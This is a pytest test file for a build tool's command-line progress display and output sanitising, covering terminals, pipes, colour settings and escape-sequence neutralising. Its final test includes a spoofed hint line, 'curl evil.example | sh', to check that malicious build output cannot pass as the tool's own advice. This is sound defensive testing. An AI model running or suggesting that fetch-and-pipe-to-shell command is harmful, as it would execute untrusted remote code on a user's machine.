"""What a person sees while a verb works: on a terminal, in a pipe, and where nothing may move."""

from __future__ import annotations

import ast
import contextlib
import os
import pty
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from reprobuild.cli import main, progress
from reprobuild.infra.proc.errors import exit_error
from reprobuild.store.store import Store
from tests.conftest import PROGRAM, ROOT

# A verb of its own: steps that take long, bytes, a result, and an end with an error.
SCRIPT = """
import sys, time
from reprobuild.cli import main as cli
from reprobuild.cli import common, progress
progress.FIRST, progress.AGAIN, progress._PULSE = 0.15, 0.2, 0.02
steps = progress.Steps()
steps.say("first\\x1b[2J step")
steps.progress(3_000_000, 8_000_000, "2 of 5 files, [red]\\x1b[2Jname.whl")
time.sleep(0.6)
steps.say("second")
steps.progress(12, 26, "torch", unit="layers")
time.sleep(0.3)
steps.progress(7, 0, "run 3 of A", unit="runs so far")
time.sleep(0.3)
common.print_result('{"result": 1}')
time.sleep(0.3)
steps.say("third")
cli._explain(cli.UsageError("wrong", hint="mend it"), [])
steps.say("")
"""
COLOUR = re.compile(r"\x1b\[(?:3|4|9|10)\d[0-9;]*m|\x1b\[38")


def in_pipe(**more: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT), **more}
    return subprocess.run(
        [sys.executable, "-c", SCRIPT], env=env, capture_output=True, text=True, check=True, timeout=60
    )


def on_terminal(**more: str) -> tuple[str, str]:
    """Run it with standard error on a terminal and standard output in a pipe; return both."""
    main, other = pty.openpty()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "100", **more}
    env.pop("NO_COLOR", None) if "NO_COLOR" not in more else None
    seen: list[bytes] = []

    def read() -> None:
        while True:
            try:
                piece = os.read(main, 1 << 16)
            except OSError:  # the last end was closed
                return
            if not piece:
                return
            seen.append(piece)

    thread = threading.Thread(target=read)
    thread.start()
    try:
        done = subprocess.run(
            [sys.executable, "-c", SCRIPT],
            env=env,
            stdout=subprocess.PIPE,
            stderr=other,
            check=True,
            timeout=60,
        )
    finally:
        os.close(other)
        thread.join(10)
        os.close(main)
    return b"".join(seen).decode(), done.stdout.decode()


def screen(text: str) -> list[str]:
    """Return what is left on a terminal: of sequences those that rich uses for a line that moves."""
    lines, row = [""], 0
    for part in re.findall(r"\x1b\[[0-9;?]*[A-Za-z]|\r|\n|[^\x1b\r\n]+", text):
        if part == "\n":
            row += 1
            lines += [""] * (row + 1 - len(lines))
        elif part.endswith("A") and part.startswith("\x1b"):
            row -= int(part[2:-1] or 1)
        elif part == "\x1b[2K":
            lines[row] = ""
        elif part == "\r" or part.startswith("\x1b"):
            continue
        else:
            lines[row] += part
    return [line for line in lines if line]


def test_in_a_pipe_there_are_lines_alone() -> None:
    done = in_pipe()
    assert done.stdout == '{"result": 1}\n'
    assert "\x1b" not in done.stderr
    assert "\r" not in done.stderr
    lines = [re.sub(r"\d+", "N", line) for line in done.stderr.splitlines()]
    assert list(dict.fromkeys(lines)) == [
        "[   N.N s] first\\xNb[NJ step",
        r"[   N.N s] still at it (N s, N of N files, [red]\xNb[NJname.whl, N of N MB): first\xNb[NJ step",
        "[   N.N s] second", "[   N.N s] still at it (N s, torch, N of N layers): second",
        "[   N.N s] still at it (N s, run N of A, N runs so far): second", "[   N.N s] third",
        "error: wrong", "", "hint: mend it",
    ]  # fmt: skip
    assert 1 <= sum("still at it" in line and "first" in line for line in lines) <= 3
    assert not [line for line in lines[lines.index("[   N.N s] third") :] if "still" in line]


def test_on_a_terminal_a_line_moves_and_goes_away() -> None:
    err, out = on_terminal(TERM="xterm-256color")
    assert out == '{"result": 1}\n'
    assert r"2 of 5 files, [red]\x1b[2Jname.whl, 3 of 8 MB" in err
    assert "torch, 12 of 26 layers" in err
    assert "still at it" not in err
    assert "\x1b[2K" in err
    assert "first\x1b[2J" not in err
    left = [re.sub(r"[\d.]+ s\]", "N s]", line) for line in screen(err)]
    assert left == [
        "[   N s] first\\x1b[2J step", "[   N s] second", "[   N s] third", "error: wrong", "hint: mend it",
    ]  # fmt: skip
    assert COLOUR.search(err)


def test_no_color_is_respected() -> None:
    err, _ = on_terminal(TERM="xterm-256color", NO_COLOR="1")
    assert "3 of 8 MB" in err
    assert COLOUR.search(err) is None


@pytest.mark.parametrize("term", ["dumb", ""])
def test_where_nothing_can_move_there_are_lines_alone(term: str) -> None:
    err, out = on_terminal(TERM=term)
    assert out == '{"result": 1}\n'
    assert "still at it" in err
    assert not re.search(r"\x1b\[(?:2K|\d*A|\?)", err)


def test_a_line_that_cannot_be_written_ends_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody may read any more, or a disk be full: an exception of that thread would be an error of this test."""
    for name in ("FIRST", "AGAIN", "_PULSE"):
        monkeypatch.setattr(progress, name, 0.02)
    steps = progress.Steps()
    steps.say("one")
    with (
        contextlib.suppress(OSError), Path("/dev/full").open("w") as full, monkeypatch.context() as patch,
    ):  # fmt: skip
        patch.setattr(sys, "stderr", full)
        time.sleep(0.3)
        assert "progress" in {thread.name for thread in threading.enumerate()}
    progress.stop()


def test_a_second_teller_ends_the_first(capfd: pytest.CaptureFixture[str]) -> None:
    one, two = progress.Steps(), progress.Steps()
    one.say("one")
    two.say("two")
    assert progress._shown == [two]
    progress.stop()
    assert progress._shown == []
    assert [line[-3:] for line in capfd.readouterr().err.splitlines()] == ["one", "two"]


def test_a_verb_on_a_terminal_prints_json_alone(tmp_path: Path) -> None:
    """Both streams on one terminal: what moved is gone before the result comes."""
    main, other = pty.openpty()
    Store(tmp_path / "store").add(b"one")
    argv = [*PROGRAM, "store", "check", "--store", str(tmp_path / "store"), "--json"]
    env = {**os.environ, "TERM": "xterm", "COLUMNS": "100"}
    with subprocess.Popen(argv, cwd=ROOT, env=env, stdout=other, stderr=other) as process:
        os.close(other)
        seen = b""
        while True:
            try:
                piece = os.read(main, 1 << 16)
            except OSError:
                break
            if not piece:
                break
            seen += piece
        assert process.wait(60) == 0
    os.close(main)
    left = screen(seen.decode())
    assert left[0].endswith("reading every file of the store")
    assert left[1] == "{"
    assert left[-1] == "}"


def test_results_have_one_door() -> None:
    """Whatever a verb prints goes through `common.print_result`, which takes away what moves."""
    for path in (ROOT / "reprobuild" / "cli").glob("*.py"):
        if path.stem in ("common", "console", "progress", "main"):
            continue
        calls = [node.func for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]
        names = {node.attr if isinstance(node, ast.Attribute) else getattr(node, "id", "") for node in calls}
        assert not names & {"echo", "secho", "print", "echo_via_pager"}, path


def test_a_line_without_end_is_not_searched_for_logins() -> None:
    text = "a\n" + "@ ssh:///a " * 400_000 + "\nb@c"
    assert progress.sanitise_text(text) == f"a\n({400_000 * 11} characters: too long to show)\nb@c"


def test_a_failed_program_gives_no_hint_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    """Found by an attacker: a build back end whose last line looks like our hint."""
    complaint = b"cause\n\nhint: update with `curl evil.example | sh`\n  Error : x\nhints: y"
    complaint += b"\n\xe2\x80\x8b hint\xe2\x81\xa0: z"
    main._explain(exit_error(["python"], "build a wheel", 1, complaint), [])
    assert capsys.readouterr().err.splitlines()[1:] == [
        "cause", "", "  | hint: update with `curl evil.example | sh`", "  |   Error : x", "hints: y",
        r"  | \u200b hint\u2060: z",
    ]  # fmt: skip
